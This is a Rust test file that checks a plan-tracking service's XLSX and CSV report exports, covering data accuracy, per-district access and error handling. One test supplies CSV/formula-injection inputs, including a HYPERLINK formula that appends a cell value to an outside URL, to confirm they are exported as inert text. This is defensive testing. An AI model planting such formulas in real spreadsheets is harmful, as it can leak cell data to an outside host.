//! The consolidated report files, read back.
use std::io::Cursor;

use axum::{
    body::Body,
    http::{Request, StatusCode},
};
use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use plantrack::service::report::HEADINGS;
use serde_json::json;

use crate::{
    fixtures::{draft, open_window, save, submission_in, task_id},
    on_both_databases,
    support::TestApp,
};

/// "768/QĐ-UBND", URL-encoded.
const PLAN_IN_URL: &str = "768%2FQ%C4%90-UBND";

async fn get(app: &TestApp, path: &str, token: Option<&str>) -> (StatusCode, String, Vec<u8>) {
    let mut request = Request::get(path);
    if let Some(token) = token {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    let (status, headers, body) = app.response(request.body(Body::empty()).unwrap()).await;
    let content_type = headers
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (status, content_type, body)
}

fn sheet(bytes: &[u8], name: &str) -> Vec<Vec<String>> {
    let mut workbook: Xlsx<_> =
        open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("a readable xlsx");
    let range = workbook.worksheet_range(name).expect("sheet");
    range
        .rows()
        .map(|row| row.iter().map(cell_text).collect())
        .collect()
}

/// A cell read back as text: empty as "", numbers as the CSV writes them ("3", "0.5").
pub fn cell_text(cell: &Data) -> String {
    match cell {
        Data::Empty => String::new(),
        Data::Float(f) => f.to_string(),
        other => other.to_string(),
    }
}

async fn reports_read_back_and_match_the_database(app: TestApp) {
    open_window(&app, "2024", 48).await.data();
    let tayson = app.client("tayson").await;
    let anlao = app.client("anlao").await;
    let i2 = task_id(&app, "I", Some(2)).await;
    let deliverable = app
        .graphql(
            "query($id: ID!) { node(id: $id) { ... on Task { deliverables { id } } } }",
            json!({ "id": i2 }),
        )
        .await
        .data()["node"]["deliverables"][0]["id"]
        .clone();
    let reply = save(
        &tayson,
        json!({ "taskId": i2, "periodCode": "2024", "summary": "Đã ban hành kế hoạch tuyên truyền", "difficulties": "Thiếu kinh phí",
                "deliverables": [{ "deliverableId": deliverable, "status": "COMPLETED", "documentRef": "Kế hoạch số 45/KH-UBND ngày 02/3/2024" }] }),
    )
    .await;
    reply.data();
    let (id, version) = (
        reply.data()["saveSubmission"]["id"]
            .as_str()
            .unwrap()
            .to_owned(),
        1,
    );
    crate::fixtures::submit(&tayson, &id, version).await.data();
    let coordinator_client = app.client("coordinator").await;
    crate::fixtures::review(&coordinator_client, &id, 2, "ACCEPT", None)
        .await
        .data();
    draft(
        &anlao,
        &task_id(&app, "I", Some(1)).await,
        "2024",
        "An Lão draft",
    )
    .await;
    submission_in(&app, &anlao, &i2, "2024", "SUBMITTED").await;

    let coordinator = app.login("coordinator").await;
    let obligations = coordinator_client
        .graphql("{ obligations(filter: { period: { code: { equalTo: \"2024\" } } }, first: 1) { totalCount } }", json!({}))
        .await;
    let expected_rows = obligations.data()["obligations"]["totalCount"]
        .as_u64()
        .unwrap() as usize;

    let (status, content_type, bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.xlsx"),
        Some(&coordinator),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::OK,
        "{}",
        String::from_utf8_lossy(&bytes)
    );
    assert!(content_type.contains("spreadsheetml"));
    let rows = sheet(&bytes, "Báo cáo");
    assert_eq!(rows[0], HEADINGS.map(str::to_owned));
    assert_eq!(
        rows.len() - 1,
        expected_rows,
        "one row per task × lead agency"
    );
    let row = |agency: &str, numeral: &str, number: &str| {
        rows.iter()
            .find(|r| r[0] == numeral && r[1] == number && r[3] == agency)
            .unwrap_or_else(|| panic!("{agency} {numeral}.{number}"))
            .clone()
    };
    let tay_son = row("Ủy ban nhân dân huyện Tây Sơn", "I", "2");
    assert_eq!(tay_son[4], "Đã tiếp nhận");
    assert_eq!(tay_son[6], "Đã ban hành kế hoạch tuyên truyền");
    assert_eq!(tay_son[8], "Thiếu kinh phí");
    assert!(
        tay_son[10].contains("Kế hoạch số 45/KH-UBND ngày 02/3/2024"),
        "{}",
        tay_son[10]
    );
    assert!(
        !tay_son[11].is_empty() && !tay_son[12].is_empty(),
        "submitted and reviewed dates"
    );
    assert_eq!(
        row("Ủy ban nhân dân huyện An Lão", "I", "1")[4],
        "Chưa báo cáo",
        "a draft stays private"
    );
    assert_eq!(row("Ủy ban nhân dân huyện An Lão", "I", "2")[4], "Đã gửi");
    let summary = sheet(&bytes, "Tổng hợp");
    let tay_son_summary = summary
        .iter()
        .find(|r| r[0] == "Ủy ban nhân dân huyện Tây Sơn")
        .expect("summary by agency");
    assert_eq!(tay_son_summary[1], "6", "expected reports");
    assert_eq!(tay_son_summary[3], "1", "accepted");
    assert!(
        summary.iter().any(|r| r[0].starts_with("III. ")),
        "summary by section"
    );

    // CSV: the same rows, UTF-8 with a BOM.
    let (status, content_type, bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.csv"),
        Some(&coordinator),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert!(content_type.starts_with("text/csv"));
    assert!(bytes.starts_with("\u{feff}".as_bytes()));
    let csv_rows: Vec<Vec<String>> = csv::Reader::from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(csv_rows, rows[1..].to_vec());

    // A district's report holds its own rows only.
    let tayson_token = app.login("tayson").await;
    let (_, _, bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.xlsx"),
        Some(&tayson_token),
    )
    .await;
    let own = sheet(&bytes, "Báo cáo");
    assert_eq!(own.len() - 1, 6);
    assert!(
        own[1..]
            .iter()
            .all(|r| r[3] == "Ủy ban nhân dân huyện Tây Sơn")
    );

    // Errors.
    assert_eq!(
        get(&app, &format!("/reports/{PLAN_IN_URL}/2024.xlsx"), None)
            .await
            .0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        get(
            &app,
            &format!("/reports/{PLAN_IN_URL}/2024.xlsx"),
            Some("forged")
        )
        .await
        .0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        get(
            &app,
            &format!("/reports/{PLAN_IN_URL}/2024.pdf"),
            Some(&coordinator)
        )
        .await
        .0,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        get(
            &app,
            &format!("/reports/{PLAN_IN_URL}/2021-2025.csv"),
            Some(&coordinator)
        )
        .await
        .0,
        StatusCode::BAD_REQUEST
    );
    assert_eq!(
        get(&app, "/reports/no-such-plan/2024.csv", Some(&coordinator))
            .await
            .0,
        StatusCode::NOT_FOUND
    );
}

/// A district's text that a spreadsheet program would run as a formula comes out as text:
/// prefixed with `'` in the CSV, and a plain string cell (no formula) in the XLSX.
async fn report_cells_never_read_as_formulas(app: TestApp) {
    open_window(&app, "2024", 48).await.data();
    let tayson = app.client("tayson").await;
    let texts = [
        ("summary", "=HYPERLINK(\"http://x\"&A1,\"y\")"),
        ("results", "@SUM(1)"),
        ("difficulties", "+1+1"),
        ("proposals", "-2+3"),
    ];
    let mut input = json!({ "taskId": task_id(&app, "I", Some(2)).await, "periodCode": "2024" });
    for (field, text) in texts {
        input[field] = json!(text);
    }
    let saved = save(&tayson, input).await;
    let id = saved.data()["saveSubmission"]["id"].as_str().unwrap();
    crate::fixtures::submit(&tayson, id, 1).await.data();
    let coordinator = app.login("coordinator").await;
    // Summary, results, difficulties and proposals are columns 6 to 9.
    let neutralized: Vec<String> = texts.iter().map(|(_, t)| format!("'{t}")).collect();
    let tay_son_row = |rows: &[Vec<String>]| -> Vec<String> {
        rows.iter()
            .find(|r| r[0] == "I" && r[1] == "2" && r[3] == "Ủy ban nhân dân huyện Tây Sơn")
            .expect("Tây Sơn's row of task I.2")[6..10]
            .to_vec()
    };

    let (status, _, bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.csv"),
        Some(&coordinator),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let csv_rows: Vec<Vec<String>> = csv::Reader::from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(tay_son_row(&csv_rows), neutralized);
    for cell in csv_rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a CSV cell reads as a formula: {cell}"
        );
    }

    let (status, _, bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.xlsx"),
        Some(&coordinator),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(tay_son_row(&sheet(&bytes, "Báo cáo")), neutralized);
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    for name in ["Báo cáo", "Tổng hợp"] {
        let formulas = workbook.worksheet_formula(name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell of {name} is a formula"
        );
        let cells = workbook.worksheet_range(name).unwrap();
        for (_, _, cell) in cells.used_cells() {
            if let Data::String(text) = cell {
                assert!(
                    !text.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: {text}"
                );
            }
        }
    }
}

/// An unknown format is refused before anything is built: no SQL statement runs.
async fn unknown_report_format_is_refused_before_any_work(app: TestApp) {
    let coordinator = app.login("coordinator").await;
    let before = app.statement_count();
    let (status, content_type, bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.pdf"),
        Some(&coordinator),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(
        content_type.starts_with("application/json"),
        "{content_type}"
    );
    let body: serde_json::Value = serde_json::from_slice(&bytes).expect("a JSON error");
    // GraphQL's error shape, as on every endpoint.
    assert_eq!(
        body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
        "{body}"
    );
    assert_eq!(
        app.statement_count(),
        before,
        "no database work for an unknown format"
    );
}

on_both_databases!(
    reports_read_back_and_match_the_database,
    report_cells_never_read_as_formulas,
    unknown_report_format_is_refused_before_any_work
);

/// The XLSX reads correctly in LibreOffice: converted by it to CSV, it holds the same
/// cells as our own CSV. Runs where `soffice` is installed, and says so where it is not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xlsx_reads_correctly_in_libreoffice() {
    let Some(soffice) = ["soffice", "libreoffice"].into_iter().find(|bin| {
        std::process::Command::new(bin)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    }) else {
        let _ = std::io::Write::write_all(&mut std::io::stderr(), b"NOTE: LibreOffice (soffice) not installed: the XLSX round trip through it is SKIPPED\n");
        return;
    };
    let app = TestApp::sqlite().await;
    open_window(&app, "2024", 48).await.data();
    let tayson = app.client("tayson").await;
    let reply = save(
        &tayson,
        json!({ "taskId": task_id(&app, "I", Some(1)).await, "periodCode": "2024",
                "summary": "Tuyên truyền về giảm nghèo bền vững, \"đa chiều\"; 3 hội nghị", "difficulties": "Dòng một\nDòng hai" }),
    )
    .await;
    let s = reply.data()["saveSubmission"].clone();
    crate::fixtures::submit(&tayson, s["id"].as_str().unwrap(), 1)
        .await
        .data();
    let token = app.login("coordinator").await;
    let (_, _, xlsx) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.xlsx"),
        Some(&token),
    )
    .await;
    let (_, _, csv_bytes) = get(
        &app,
        &format!("/reports/{PLAN_IN_URL}/2024.csv"),
        Some(&token),
    )
    .await;

    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("bao-cao.xlsx");
    std::fs::write(&input, &xlsx).unwrap();
    let output = std::process::Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}/profile",
            dir.path().display()
        ))
        .args([
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
        ])
        .arg(dir.path())
        .arg(&input)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let converted = std::fs::read(dir.path().join("bao-cao.csv")).unwrap();
    let read = |bytes: &[u8]| -> Vec<Vec<String>> {
        let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .map(|r| r.unwrap().iter().map(|c| c.replace("\r\n", "\n")).collect())
            .collect()
    };
    let ours = read(&csv_bytes);
    assert_eq!(read(&converted), ours);
    assert!(
        ours.iter().any(|r| r[6].contains("\"đa chiều\"")),
        "diacritics and quotes survive"
    );
}
